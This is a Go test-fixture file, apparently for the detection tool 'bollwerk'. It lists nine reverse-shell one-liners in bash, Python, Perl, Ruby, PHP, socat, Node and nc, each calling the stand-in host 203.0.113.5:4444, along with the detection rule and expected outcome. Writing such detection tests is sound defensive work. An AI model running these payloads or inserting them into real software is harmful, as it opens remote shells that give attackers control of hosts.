package attack

import "github.com/bollwerk/bollwerk"

func attacks() []attackCase {
	high, medium := bollwerk.SeverityHigh, bollwerk.SeverityMedium
	_ = medium
	shell := []string{"reverse-shell"}
	to := "timeout 5 "
	return []attackCase{
		{name: "reverse-bash", script: to + `bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'`, rules: shell, least: high, outcome: bollwerk.Killed},
		{name: "reverse-fifo", script: to + `bash -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f'`, rules: shell, least: high},
		{name: "reverse-python", script: to + `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh","-i"])'`, rules: shell, least: high, outcome: bollwerk.Killed},
		{name: "reverse-perl", script: to + `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.5")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`, rules: shell, least: high, outcome: bollwerk.Killed},
		{name: "reverse-ruby", script: to + `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.5",4444);exec("/bin/sh",:in=>c,:out=>c,:err=>c)'`, rules: shell, least: high, outcome: bollwerk.Killed},
		{name: "reverse-php", script: to + `php -r '$s=fsockopen("203.0.113.5",4444);proc_close(proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$p));'`, rules: shell, least: high},
		{name: "reverse-socat", script: to + `socat tcp:203.0.113.5:4444 exec:'/bin/sh -i',pty,stderr`, rules: shell, least: high},
		{name: "reverse-socat-plain", script: to + `socat tcp:203.0.113.5:4444 exec:/bin/sh`, rules: shell, least: high},
		{name: "reverse-node", script: to + `node -e 'const n=require("net"),c=require("child_process"),s=c.spawn("/bin/sh",[]),k=n.connect(4444,"203.0.113.5",()=>{k.pipe(s.stdin);s.stdout.pipe(k);s.stderr.pipe(k)})'`, rules: shell, least: high},
	}
}
